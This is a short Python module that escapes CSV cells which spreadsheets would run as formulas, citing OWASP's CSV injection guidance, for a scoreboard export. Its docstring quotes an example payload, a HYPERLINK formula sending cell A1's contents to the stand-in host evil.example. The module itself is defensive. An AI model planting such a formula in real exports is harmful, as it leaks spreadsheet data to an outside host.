"""CSV cells a spreadsheet will not run as a formula (OWASP, "CSV Injection").

Excel, LibreOffice and Google Sheets read a cell that starts with ``=``, ``+``, ``-`` or ``@``
as a formula, and some also after a leading tab or carriage return: a team named
``=HYPERLINK("http://evil.example/?"&A1,"click")`` would become a live link (or worse) in the
spreadsheet of whoever opens a board's export.  Such a cell gets a leading apostrophe, which
spreadsheets show as text and do not display.  A plain number keeps its form (``-3.5`` must stay
a number someone can sort and add), and values that are numbers in Python are never touched.
"""

from __future__ import annotations

from collections.abc import Iterable, Iterator, Mapping, Sequence
from typing import Any

from scoring.tables import FORMULA_STARTS as FORMULA_STARTS
from scoring.tables import csv_cell_safe as csv_cell_safe

# The rule itself lives in the scoring library, whose tables (metaeval --format csv) apply it too.


def csv_rows_safe(fields: Sequence[str], records: Iterable[Mapping[str, Any]]) -> Iterator[list[Any]]:
    """The header and one row per record, for ``csv.writer``, every cell made safe: the header
    too, since its names come from datasets and metrics, which organizers name."""
    yield [csv_cell_safe(name) for name in fields]
    for record in records:
        yield [csv_cell_safe(record.get(name)) for name in fields]
